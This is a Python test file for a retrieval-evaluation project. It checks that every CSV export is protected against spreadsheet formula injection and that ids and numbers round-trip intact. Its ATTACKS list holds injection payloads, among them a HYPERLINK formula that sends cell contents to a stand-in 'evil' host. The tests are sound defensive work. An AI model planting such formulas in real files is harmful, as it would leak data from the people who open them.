"""Every CSV export is safe to open in a spreadsheet (no cell a spreadsheet would evaluate), numbers stay numbers,
and ids read back as the strings they were (issue 30)."""

from __future__ import annotations

import csv
import math
import re
from pathlib import Path

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from mlflow.tracking import MlflowClient

from vdr_exp.data.protocols import RetrievalProtocol
from vdr_exp.reports import leaderboard as board_module
from vdr_exp.retrieval import scoring
from vdr_exp.runtime import csv_safe

ATTACKS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=already"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> list[str]:
    with path.open(newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_inert(path: Path) -> None:
    for cell in _cells(path):
        assert not cell.startswith(TRIGGERS) or csv_safe.NUMBER.fullmatch(cell), (path.name, cell)


@settings(max_examples=100, deadline=None, database=None)  # default tier: 100 examples, about a second
@given(st.lists(st.text(max_size=12), min_size=1, max_size=6))
def test_any_text_is_written_inert_and_read_back_unchanged(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    frame = pd.DataFrame({"query_id": texts, "query": texts, "score": range(len(texts))})
    csv_safe.write_csv(frame, path)
    _assert_inert(path)
    back = csv_safe.read_csv(path)
    assert list(back["query_id"]) == texts and list(back["query"]) == texts
    assert list(back["score"]) == list(range(len(texts)))


def test_numbers_are_unaffected(tmp_path):
    frame = pd.DataFrame({"value": [-0.5, 1e-3, -7], "label": ["-0.5", "+3", "1e5"]})
    path = csv_safe.write_csv(frame, tmp_path / "n.csv")
    assert _cells(path) == ["value", "label", "-0.5", "-0.5", "0.001", "+3", "-7.0", "1e5"]


def test_ids_that_look_like_numbers_stay_distinct_strings(tmp_path):
    ids = ["16", "016", "16.0", "1.6e1", "NA", ""]
    path = csv_safe.write_csv(pd.DataFrame({"query_id": ids, "ndcg_at_10": [0.1] * 6}), tmp_path / "p.csv")
    assert list(csv_safe.read_csv(path)["query_id"]) == ids


def _protocol() -> RetrievalProtocol:
    queries = {qid: text for qid, text in zip(["=cmd", "+1", "16", "016"], ATTACKS, strict=False)}
    corpus = {"-doc": None, "@doc": None}
    return RetrievalProtocol("p", queries, corpus, {q: {"-doc": 1} for q in queries})


def test_the_evaluation_csvs_are_inert(tmp_path):
    protocol = _protocol()
    ranked = {q: ["@doc", "-doc"] for q in protocol.queries}
    table = scoring.per_query_report(scoring.query_table(protocol, ranked), protocol)
    rankings = pd.DataFrame(
        [
            {"query_id": q, "rank": r + 1, "doc_id": d, "score": 0.5}
            for q, ds in ranked.items()
            for r, d in enumerate(ds)
        ]
    )
    dims = pd.DataFrame([{"dim": 8, "ndcg_at_10": 0.5, "mrr_at_10": 0.5, "map_at_100": 0.5, "recall_at_10": 1.0}])
    result = scoring.EvaluationResult({"ndcg_at_10": 0.5}, table, rankings, dims, protocol.qrels, dim=8)
    written = scoring.write_artifacts(result, tmp_path)
    for path in written:
        if path.suffix == ".csv":
            _assert_inert(path)
    assert sorted(csv_safe.read_csv(tmp_path / "per_query.csv")["query_id"]) == sorted(protocol.queries)


def _board(models: list[str]) -> pd.DataFrame:
    rows = []
    for rank, model in enumerate(models, start=1):
        row = {column: math.nan for column in board_module.COLUMNS}
        row |= {"rank": rank, "model": model, "kind": "single-vector", "ndcg_at_10": 0.5 / rank, "width": "full"}
        row |= {"dataset": "=ds", "pixel_budget": "@px", "params": 1000, "run_id": f"r{rank}"}
        rows.append(row)
    return pd.DataFrame(rows)[board_module.COLUMNS]


def test_the_leaderboard_csv_is_inert(tmp_path):
    written = board_module.write(_board(ATTACKS[:3]), tmp_path, "board")
    _assert_inert(written.csv)
    assert list(csv_safe.read_csv(written.csv)["model"]) == ATTACKS[:3]


def _run_with_per_query(
    client: MlflowClient, experiment: str, ids: list[str], scores: list[float], folder: Path
) -> str:
    run = client.create_run(experiment)
    path = csv_safe.write_csv(
        pd.DataFrame({"query_id": ids, "query": ATTACKS[: len(ids)], "ndcg_at_10": scores}), folder / "per_query.csv"
    )
    client.log_artifact(run.info.run_id, str(path))
    client.set_terminated(run.info.run_id)
    return run.info.run_id


def test_compare_pairs_each_id_once_and_writes_an_inert_csv(tmp_path, new_store):
    """Four ids that read as the number 16 made 16 pairs when the CSV was read with numbers for ids."""
    client = MlflowClient(tracking_uri=f"sqlite:///{new_store}")
    experiment = client.create_experiment("e", artifact_location=(tmp_path / "art").as_uri())
    ids = ["16", "016", "16.0", "1.6e1"]
    (tmp_path / "a").mkdir(), (tmp_path / "b").mkdir()
    run_a = _run_with_per_query(client, experiment, ids, [0.1, 0.2, 0.3, 0.4], tmp_path / "a")
    run_b = _run_with_per_query(client, experiment, ids, [0.4, 0.2, 0.1, 0.4], tmp_path / "b")
    path, summary = board_module.compare_runs(client, run_a, run_b, tmp_path / "out")
    assert "on 4 queries" in summary
    _assert_inert(path)
    assert sorted(csv_safe.read_csv(path)["query_id"]) == sorted(ids)


def test_the_suite_pivot_csv_is_inert(tmp_path):
    from vdr_exp.suites import report

    table = pd.DataFrame({"=Task": [0.5, 0.25]}, index=pd.Index(["=model", "@other"], name="model"))
    files = report.write(table, tmp_path, "suite", "ndcg_at_10")
    _assert_inert(files.csv)


def test_no_module_writes_a_csv_but_the_safe_writer():
    """The class, not the cases: any future export goes through csv_safe, or this names it."""
    root = Path(__file__).resolve().parents[2] / "vdr_exp"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "csv_safe.py" and re.search(r"\.to_csv\(|pd\.read_csv\(", path.read_text())
    ]
    assert offenders == []
